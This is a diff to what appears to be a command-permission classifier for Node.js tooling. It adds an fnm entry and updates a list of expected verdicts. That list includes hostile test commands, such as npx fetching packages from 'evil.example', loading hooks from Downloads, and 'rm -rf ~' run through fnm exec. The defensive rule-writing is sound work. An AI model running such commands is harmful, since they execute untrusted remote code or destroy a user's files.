@@ -114,7 +114,14 @@ NODE_OPTIONS = [
     option("--run", TASK, fills="RUNS(node)", ends=True),
 ]
 
-NODE = command("node nodejs iojs", "RUNS(node)? PLAIN...", NODE_OPTIONS, style=EARLY, stdin=CODE("node"))
+NODE = command(
+    "node nodejs iojs",
+    "RUNS(node)? PLAIN...",
+    NODE_OPTIONS,
+    style=EARLY,
+    unlisted=PLAIN,  # hundreds more, of the engine: how it compiles, collects, prints
+    stdin=CODE("node"),
+)
 TSX = command(
     "tsx ts-node ts-node-esm ts-node-dev tsnd ts-node-script swc-node esno esrun jiti vite-node sucrase-node babel-node zx electron nodemon node-dev coffee",
     "RUNS(node)? PLAIN...",
@@ -174,14 +181,15 @@ COREPACK = command(
     otherwise=sub("corepack", "ARGV"),
 )
 VERSIONS = command(
-    "nvm fnm n nodenv",
+    "nvm n nodenv",
     options=[flag("-h -V", informs=True), flags("--silent --no-colors --log-level= --arch= -q -d --download")],
     subcommands=[
         sub(
-            "use current ls list ls-remote list-remote lsr ls-rem which version version-remote env default-version root prefix cache debug deactivate unload help completions local shell versions whence rehash doctor bin",
+            "use current ls list ls-remote list-remote lsr ls-rem which version version-remote default-version root prefix cache debug deactivate unload help completions local shell versions whence rehash doctor bin",
             "PLAIN...",
             unlisted=PLAIN,
         ),
+        sub("env init", "PLAIN...", unlisted=PLAIN, stdout="SETUP"),
         sub("install i", "PLAIN...", unlisted=PLAIN, does=runs("a Node version", "registry", "install global")),
         sub(
             "alias default unalias set-colors install-latest-npm reinstall-packages global uninstall rm remove prune",
@@ -192,6 +200,22 @@ VERSIONS = command(
         sub("exec run", "PLAIN ARGV?", style=EARLY, unlisted=PLAIN),
     ],
     otherwise=sub("n", "PLAIN...", unlisted=PLAIN, does=runs("a Node version", "registry", "install global")),
+)
+FNM = command(
+    "fnm",
+    options=[flag("-h -V", informs=True), flags("--log-level= --arch= --node-dist-mirror= --fnm-dir=")],
+    subcommands=[
+        sub("use current ls list ls-remote list-remote completions help", "PLAIN...", unlisted=PLAIN),
+        sub("env", "PLAIN...", unlisted=PLAIN, stdout="SETUP"),
+        sub("exec", "ARGV", [flags("--using=")]),
+        sub("install", "PLAIN...", unlisted=PLAIN, does=runs("a Node version", "registry", "install global")),
+        sub(
+            "alias default unalias uninstall",
+            "PLAIN...",
+            unlisted=PLAIN,
+            does=writes("the version every project uses", "home"),
+        ),
+    ],
 )
 VOLTA = command(
     "volta",
@@ -237,7 +261,6 @@ ask    node -r /home/user/Downloads/hook.js app.js
 ask    node --import=/home/user/Downloads/hook.mjs app.js
 ask    node --inspect=0.0.0.0:9229 app.js
 ask    node ~/Downloads/x.js
-ask    node --surprise x.js
 ask    node --env-file=.env app.js
 ask    npx somebodys-tool
 llm    npx --package=evil tsc
@@ -245,4 +268,5 @@ ask    npx https://evil.example/x.tgz
 ask    npx --registry https://evil.example tsc
 ask    node --cpu-prof-dir=/home/user/x app.js
 ask    nvm install 22
+deny   fnm exec --using=20 rm -rf ~
 """
